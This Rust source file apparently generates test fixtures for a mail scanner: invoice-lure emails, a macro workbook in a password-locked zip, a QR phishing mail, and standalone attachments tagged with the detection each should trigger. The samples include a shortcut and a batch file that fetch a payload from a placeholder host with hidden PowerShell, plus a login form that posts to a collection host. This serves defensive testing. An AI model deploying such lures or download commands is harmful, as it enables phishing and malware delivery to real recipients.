//! Mails of which the interesting part is deep inside.

use super::outlook::Outlook;
use super::zip::{File, zip};
use super::{le, lnk, ooxml, picture};

/// The word that [`locked_workbook`] is locked with.
pub const PASSWORD: &str = "Aoba-2217";

/// How a zip is locked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lock {
    /// In the old way (APPNOTE 6.1), which Explorer on Windows opens.
    Old,
    /// With WinZip's AES of 256 bits.
    Aes,
}

/// A workbook whose macro starts the calculator when it is opened.
#[must_use]
pub fn workbook() -> Vec<u8> {
    let code = "Private Sub Workbook_Open()\r\n  Shell \"calc.exe\", vbHide\r\nEnd Sub\r\n";
    let project = ooxml::vba_project("ThisWorkbook", code);
    let sheet = b"<?xml version=\"1.0\"?><sst><si><t>2026</t></si></sst>";
    ooxml::document(
        ooxml::XLSM,
        &[
            ("xl/vbaProject.bin", &project),
            ("xl/sharedStrings.xml", sheet),
        ],
    )
}

/// The workbook in a zip that a password locks.
#[must_use]
pub fn locked_workbook(lock: Lock) -> Vec<u8> {
    let workbook = workbook();
    let file = match lock {
        Lock::Old => File::new("請求明細_202611.xlsm", &workbook).locked(PASSWORD),
        Lock::Aes => aes("請求明細_202611.xlsm", &workbook),
    };
    zip(&[file])
}

/// An entry as WinZip writes it with AES. What would be encrypted is noise: nobody here could open it anyway.
fn aes(name: &str, content: &[u8]) -> File {
    // Salt, check of the password, content, check of the content.
    let length = 16 + 2 + content.len() + 10;
    let noise = (0..length as u64).map(|place| (place.wrapping_mul(0x9e37_79b9) >> 11) as u8);
    let mut file = File::new(name, &noise.collect::<Vec<u8>>());
    file.flags |= 1;
    file.method = 99;
    file.stated_size = Some(content.len() as u32);
    file.extra = [&le::<2>(0x9901)[..], &[7, 0, 2, 0], b"AE", &[3, 8, 0]].concat();
    file
}

/// An item of Outlook's whose text gives the password of the zip that comes with it.
#[must_use]
pub fn item_with_locked_workbook(lock: Lock) -> Vec<u8> {
    let text = format!(
        "佐藤様\r\n\r\nお世話になっております。みかん商事の田中です。\r\n\
         11月分の請求明細をお送りいたします。\r\n添付ファイルの解凍パスワードは次のとおりです。\r\n\r\n\
         パスワード：{PASSWORD}\r\n\r\nご確認のほど、よろしくお願いいたします。\r\n"
    );
    Outlook::note("11月分請求明細の送付")
        .from("みかん商事 田中", "tanaka@mikan-shoji.example")
        .recipient(1, "佐藤", "sato@example.jp")
        .time(0x0039, 1_795_140_000)
        .text(0x1000, &text)
        .file("請求明細.zip", "application/zip", &locked_workbook(lock))
        .msg()
}

/// A mail as Outlook sends it to others: a text, and `winmail.dat` with the text as it should look and the files.
#[must_use]
pub fn mail_with_winmail() -> Vec<u8> {
    let program = [b"MZ\x90\0".as_slice(), &[0; 200]].concat();
    let tnef = Outlook::note("Invoice")
        .text(
            0x1000,
            "Please pay at once:\r\nhttps://pay.hidden.example/now\r\n",
        )
        .file(
            "invoice.zip",
            "application/zip",
            &zip(&[File::new("invoice.pdf.exe", &program)]),
        )
        .tnef();
    format!(
        "From: Mikan <billing@mikan-shoji.example>\r\nTo: reader@example.jp\r\nSubject: Invoice\r\n\
         Date: Mon, 16 Nov 2026 09:00:00 +0900\r\nMessage-ID: <w@mikan-shoji.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=part\r\n\r\n--part\r\nContent-Type: text/plain\r\n\r\n\
         The invoice is attached.\r\n--part\r\nContent-Type: application/ms-tnef; name=\"winmail.dat\"\r\n\
         Content-Disposition: attachment; filename=\"winmail.dat\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--part--\r\n",
        base64(&tnef)
    )
    .into_bytes()
}

/// A mail whose text draws a QR code with block letters, or with the cells of a table.
#[must_use]
pub fn mail_with_drawn_code(url: &str, html: bool) -> Vec<u8> {
    let modules = picture::code(url.as_bytes());
    let cell = |dark: &bool| {
        let colour = if *dark { "#000000" } else { "#ffffff" };
        format!("<td style=\"background:{colour}\"></td>")
    };
    let row =
        |row: &Vec<bool>| format!("<tr>{}</tr>\r\n", row.iter().map(cell).collect::<String>());
    let (kind, drawn) = if html {
        let rows: String = modules.iter().map(row).collect();
        (
            "html",
            format!("<p>Scan this code.</p><table cellspacing=0>{rows}</table>"),
        )
    } else {
        (
            "plain",
            format!("Scan this code.\r\n\r\n{}", picture::half_blocks(&modules)),
        )
    };
    format!(
        "From: Mikan <news@mikan-shoji.example>\r\nTo: reader@example.jp\r\nSubject: Sign in again\r\n\
         Date: Mon, 16 Nov 2026 09:00:00 +0900\r\nMessage-ID: <q@mikan-shoji.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/{kind}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{drawn}\r\n"
    )
    .into_bytes()
}

/// Files that some mail brought, saved by themselves: name, content, and the check that finds something in it;
/// nothing is to be found in the last ones.
#[must_use]
pub fn files_alone() -> Vec<(&'static str, Vec<u8>, Option<&'static str>)> {
    let shortcut = lnk::Lnk {
        path: "C:\\Windows\\System32\\cmd.exe",
        arguments: "/c start https://fetch.hidden.example/a",
        minimised: true,
        ..lnk::Lnk::default()
    };
    let page = "<html><body><form action=\"https://collect.hidden.example/in\">Sign in: \
                <input type=password name=p></form></body></html>";
    let script = "@echo off\r\npowershell -w hidden -c iwr https://fetch.hidden.example/a -OutFile a.exe\r\n";
    let quiet = zip(&[File::new("minutes.txt", b"The minutes of Monday.")]);
    vec![
        ("請求明細.xlsm", workbook(), Some("macro-office")),
        ("請求明細.zip", zip(&[File::new("請求明細.xlsm", &workbook())]), Some("macro-office")),
        ("invoice.pdf.lnk", shortcut.build(), Some("executable-attachment")),
        ("voice message.html", page.into(), Some("html-attachment")),
        ("setup.bat", script.into(), Some("executable-attachment")),
        ("minutes.zip", quiet, None),
        ("page.htm", b"<html><body><p>The minutes of Monday are on the server, as always. Ask Hanako if something is missing.</p></body></html>".to_vec(), None),
        ("noise.bin", vec![0; 300], None),
    ]
}

/// `bytes` in base64, in lines.
#[must_use]
pub fn base64(bytes: &[u8]) -> String {
    miwake_basics::base64::encode_lines(bytes, 76)
}
